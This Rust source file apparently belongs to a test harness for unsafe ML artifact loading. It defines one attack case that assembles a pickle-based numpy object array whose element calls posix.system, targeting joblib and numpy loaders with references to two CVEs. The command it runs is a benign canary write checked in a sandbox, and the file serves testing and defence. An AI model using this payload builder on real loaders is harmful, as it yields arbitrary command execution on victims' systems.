//! An array of objects, one of which is the payload.

use super::*;

use crate::pickle::assemble::AssembleError;

use crate::pickle::{Assembler, Op};

/// The element of an array.
pub const ATTACK: Attack = Attack {
    id: "object-array-payload",
    title: "a payload in an array of objects",
    summary: "An array of dtype object holds a pickle, and its element is a call. joblib reads \
              that pickle by another unpickler than the file around it, so that old versions left \
              the rules of a restricted one behind; numpy reads it as soon as allow_pickle is set.",
    severity: Severity::Critical,
    targets: Targets::Python(&[Loader::Joblib, Loader::Numpy]),
    techniques: &[techniques::UNIX_SHELL, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 693],
    references: &[
        Reference {
            title: "joblib pull request 1795: the pickle inside an array of objects",
            url: "https://github.com/joblib/joblib/pull/1795",
        },
        Reference {
            title: "CVE-2024-34997",
            url: "https://nvd.nist.gov/vuln/detail/CVE-2024-34997",
        },
        Reference { title: "CVE-2019-6446", url: "https://nvd.nist.gov/vuln/detail/CVE-2019-6446" },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    let failed = |error: AssembleError| BuildError {
        attack: ATTACK.id,
        target: target.id().into(),
        problem: error.to_string(),
    };
    let array = array(&command).map_err(failed)?;
    if target == Target::Python(Loader::Numpy) {
        return Ok(payload::object_array(&array));
    }
    payload::file(ATTACK.id, target, |assembler| {
        payload::joblib_wrapper(assembler, "O8", 1);
        assembler.raw(&array);
    })
}

/// The pickle of an array of one object, as numpy writes it: a bare array, and a state with the list
/// of elements in it.
fn array(command: &str) -> Result<Vec<u8>, AssembleError> {
    let mut assembler = Assembler::new();
    assembler.proto(4).global("numpy", "ndarray").int(0).op(Op::Tuple1).op(Op::Tuple1);
    assembler.op(Op::NewObj).op(Op::Mark).int(1).int(1).op(Op::Tuple1);
    assembler.global("numpy", "dtype").text("O8").op(Op::NewFalse).op(Op::NewTrue);
    assembler.op(Op::Tuple3).op(Op::Reduce).op(Op::NewFalse).op(Op::EmptyList);
    payload::call(&mut assembler, "posix", "system", command);
    assembler.op(Op::Append).op(Op::Tuple).op(Op::Build).op(Op::Stop);
    assembler.finish()
}
